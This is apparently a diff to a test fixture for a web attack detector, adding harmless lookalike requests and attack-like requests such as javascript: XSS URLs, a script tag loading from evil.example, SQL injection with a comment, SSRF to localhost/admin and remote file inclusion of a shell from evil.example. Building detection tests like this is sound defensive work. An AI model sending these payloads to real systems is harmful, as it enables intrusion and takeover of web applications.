@@ -73,6 +73,20 @@ ORDINARY = {
     "front-end action types with @@": make_request(
         "GET", "/", (("X-Userdata", "actionType=@@container(instance/list)"),), b""
     ),
+    "inert javascript: links captured by analytics": json_post(
+        {
+            "attributes": '{"href":"javascript:void(0);"}',
+            "b": "javascript:;",
+            "c": "javascript:void 0;",
+        }
+    ),
+    "a search for a tag name": query("/search", keyword="binary <script is incorrect"),
+    "batch-like comparison inside JSON": text_post('{"iframe":"","groupId":"3.YmJz==..UZ"}'),
+    "a host named localhost under a real domain": json_post(
+        {"url": "https://localhost.ptlogin2.example.com:4301/pc_query"}
+    ),
+    "campaign tags with dashes": query("/", cm_mmc="OSearch_Baidu-_---_---_--"),
+    "a bare site URL with an empty query": json_post({"bd_vid_url": "https://example.cc/?"}),
 }
 
 
@@ -96,6 +110,14 @@ LOOKALIKE_ATTACKS = {
     "tautology after a quote": query("/item", id="1' and 1=1"),
     "variable function call": query("/x", a="1;$f($_GET[c])"),
     "perf with an operand": query("/x", a="perf --version"),
+    "javascript: URL": query("/x", u="javascript:alert(1)"),
+    "javascript: after an inert no-op": query("/x", u="javascript:void(0);alert(1)"),
+    "bare javascript: probe": query("/x", u="javascript:"),
+    "script tag squeezed by whitespace removal": query("/x", q="<script src=//evil.example/x>"),
+    "batch IF comparison": query("/x", c="if /i a==b foo"),
+    "SSRF to localhost": query("/fetch", url="http://localhost/admin"),
+    "SQL comment after a number": query("/item", id="1 and 1=1--"),
+    "RFI with a trailing question mark": query("/x", page="http://evil.example/shell.txt?"),
 }
 
 
